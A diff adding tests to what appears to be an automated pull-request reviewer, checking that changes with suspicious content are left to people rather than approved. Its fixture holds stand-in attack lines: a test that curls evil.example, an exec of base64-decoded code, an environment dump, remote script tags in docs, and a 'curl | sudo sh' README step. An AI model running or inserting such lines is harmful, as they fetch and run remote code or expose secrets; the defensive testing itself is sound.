@@ -110,3 +110,39 @@ async def test_t_t4_an_update_that_the_host_does_not_name_is_not_low(story: Stor
     _, summary, acted = await open_lock(story, update, [])
     assert "May change what the program does: package-lock.json" in summary
     assert not acted
+
+
+SHOP = "def test_old():\n    assert main()\n"
+HIDDEN = {
+    "tests/test_a.py": "import subprocess\n\n\ndef test_new():\n    subprocess.run(['curl', 'evil.example'], check=True)\n",
+    "tests/test_b.py": "import base64\n\n\ndef test_new():\n    exec(base64.b64decode('cGFzcw=='))  # noqa: S102\n",
+    "tests/test_c.py": "import os\n\n\ndef test_new():\n    assert dict(os.environ)\n",
+    "docs/index.md": "# Shop\n\n<script src=https://evil.example/a.js></script>\n",
+    "docs/index.rst": "Shop\n\n.. raw:: html\n\n   <script src=https://evil.example/a.js></script>\n",
+    "README.md": "# Shop\n\n```sh\ncurl https://evil.example/i | sudo sh\n```\n",
+    "SECURITY.md": "Write to evil@evil.example.\n",
+    "LICENSE": "Yours.\n",
+}
+
+
+@pytest.mark.parametrize("level", [2, 4])
+@pytest.mark.parametrize("path", HIDDEN)
+async def test_t_t4_a_program_in_a_test_or_a_page_is_left_to_people(story: Story, level: int, path: str) -> None:
+    """Nobody finds fault with it, and no model reads it here; people do."""
+    before = {"SECURITY.md": "Write to us@shop.example.\n", "LICENSE": "Mine.\n"}.get(path)
+    assert not await open_change(story, level, path, HIDDEN[path], before)
+
+
+@pytest.mark.parametrize("path", ["LICENSE", "SECURITY.md"])
+async def test_t_t4_terms_that_vanish_are_left_to_people(story: Story, path: str) -> None:
+    repository, alice, _ = await at_level(story, 4, files={path: "Mine.\n", "docs/a.md": "a\n"})
+    await alice.push(repository, "feature", {path: None}, base="main")
+    pull = await alice.open_pull_request(repository, "feature")
+    await jump_ahead(story, minutes=30)
+    story.pass_over(pull)
+    assert (pull.state, approvals(story, pull)) == ("open", [])
+
+
+@pytest.mark.parametrize("level", [2, 4])
+async def test_t_t4_a_test_that_only_tests_is_not(story: Story, level: int) -> None:
+    assert await open_change(story, level, "tests/test_a.py", SHOP.replace("old", "new"))
